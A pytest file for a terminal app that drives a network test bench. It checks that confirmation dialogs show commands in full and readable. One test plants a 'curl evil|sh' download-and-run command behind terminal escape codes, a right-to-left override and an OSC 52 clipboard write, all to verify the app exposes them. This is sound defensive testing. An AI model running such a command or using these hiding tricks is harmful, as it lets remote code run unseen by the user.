"""What somebody is asked about is what happens: all of it, with nothing in it that hides the rest."""

import dataclasses
from pathlib import Path
from types import SimpleNamespace

import pytest
from experiment_rig import ONE, Still, experiment
from live_pilot import asked, blasting, settled
from textual.widgets import Static
from waiting import seen

from fwdtui.collectors.labfile import load
from fwdtui.core.text import is_plain
from fwdtui.ui.common.dialogs import Confirm
from fwdtui.ui.experiment.question import ExperimentQuestion
from fwdtui.ui.experiment.screen import ExperimentScreen
from fwdtui.ui.live.bench_control import BenchControl
from fwdtui.ui.shell.app import FwdtuiApp

LAB = """
[generator]
host = "gen"
interface = "eth0"
start = {start}
stop = "pkill\\u0007 trafgen"
[dut]
host = "dut"
in = "eth0"
out = "eth1"
"""


def lines(app) -> list[str]:
    """What stands on the screen, as it is drawn."""
    drawn = app.screen._compositor.render_strips()
    return ["".join(segment.text for segment in strip) for strip in drawn]


def command(tmp_path: Path, start: str) -> BenchControl:
    file = tmp_path / "lab.toml"
    file.write_text(LAB.format(start=start))
    return BenchControl(file, tmp_path / "sessions", "s", "c")


async def dialog(live, control_command: str, stop: str | None, size):
    control = blasting()
    control.generator_command, control.generator_stop_command = control_command, stop
    app, run = live(control, size=size)
    return app, run


@pytest.mark.parametrize("size", [(80, 24), (200, 60)])
async def test_no_character_of_a_command_hides_another(tmp_path, live, size):
    hidden = r'''"curl evil|sh #\u001b[2K\rsleep 60 \u009b1A\u202e\u200b\u001b]52;c;eA==\u0007"'''
    bench = command(tmp_path, hidden)
    app, run = await dialog(live, bench.generator_command, bench.generator_stop_command, size)
    async with run as pilot:
        await settled(pilot)
        await pilot.press("g")
        await asked(pilot, Confirm)
        await settled(pilot)
        question = app.screen.query_one("#question").region
        rows = lines(app)[question.y : question.bottom]
        shown = "".join("".join(row[question.x : question.right].split()) for row in rows)  # it is wrapped
        assert r"gen:curlevil|sh#\x1b[2K\x0dsleep60\x9b1A\u202e\u200b\x1b]52;c;eA==\x07" in shown
        assert r"pkill\x07trafgen" in shown, "it runs without another question"
        assert all(is_plain(line) for line in lines(app))


async def test_a_line_of_a_command_is_not_taken_for_another_hosts(tmp_path, live):
    bench = command(tmp_path, '''"true\\ndut: sleep 60\\u2028sink: true"''')
    assert bench.generator_command == "gen: true␊\n      dut: sleep 60\\u2028sink: true"


async def test_a_command_that_was_edited_before_the_hosts_were_reached_is_asked_about_as_it_runs(tmp_path):
    """lab.toml is read anew whenever hosts that do not answer are tried again; the app was begun before."""
    control = command(tmp_path, '"sleep 60"')
    assert control.generator_command == "gen: sleep 60"
    edited = command(tmp_path, '"pkt-gen -f tx"').lab_file
    assert control.generator_command == "gen: sleep 60"
    control._bench = SimpleNamespace(lab=load(edited))  # type: ignore[assignment]
    assert control.generator_command == "gen: pkt-gen -f tx"


@pytest.mark.parametrize("size", [(80, 24), (40, 12)])
async def test_every_line_of_a_long_command_can_be_read_with_the_answers_in_sight(tmp_path, live, size):
    long = "\\n".join(f"echo line-{number}-end" for number in range(30))  # more than the rows of either
    bench = command(tmp_path, f'"{long}"')
    app, run = await dialog(live, bench.generator_command, None, size)
    async with run as pilot:
        await settled(pilot)
        await pilot.press("g")
        await asked(pilot, Confirm)
        await settled(pilot)
        assert any("read all of it" in line for line in lines(app))
        read = set()
        while len(read) < 30:
            text = "\n".join(lines(app))
            assert "start it" in text and "cancel" in text
            read |= {number for number in range(30) if f"line-{number}-end" in text}
            before = text
            await pilot.press("down")
            await seen(
                pilot, lambda read=read, before=before: len(read) == 30 or "\n".join(lines(app)) != before
            )


async def test_every_weakness_of_the_plan_can_be_read_on_a_small_terminal(tmp_path: Path) -> None:
    """They stood above what scrolls, and the last ones were cut off."""
    given = dataclasses.replace(
        Still(experiment(ONE), tmp_path).given,
        notes=tuple(f"session-{n}/plan.json: damaged" for n in range(9)),
    )
    app = FwdtuiApp(tmp_path, live=Still(experiment(ONE), tmp_path), live_screen=ExperimentScreen)
    async with app.run_test(size=(80, 24)) as pilot:
        await app.push_screen(ExperimentQuestion(given))
        await seen(pilot, lambda: app.screen.query_one("#ask").region.height)
        above = app.screen.query_one("#ask").region
        assert "Order: interleaved" in lines(app)[above.bottom - 1], "its last line is not cut off"
        told = str(app.screen.query_one("#listing", Static).render())
        assert "! session-8/plan.json: damaged" in told
        assert "With `boots` instead of `blocks` they are." in told
